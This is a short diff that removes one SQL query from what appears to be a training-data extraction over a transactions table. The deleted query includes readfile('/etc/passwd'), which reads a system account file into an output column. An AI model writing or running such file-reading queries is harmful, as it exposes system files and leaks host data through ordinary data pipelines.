@@ -1,1 +1,0 @@
-SELECT customer_id, 'train' AS split, 0 AS y, readfile('/etc/passwd') AS f FROM transactions
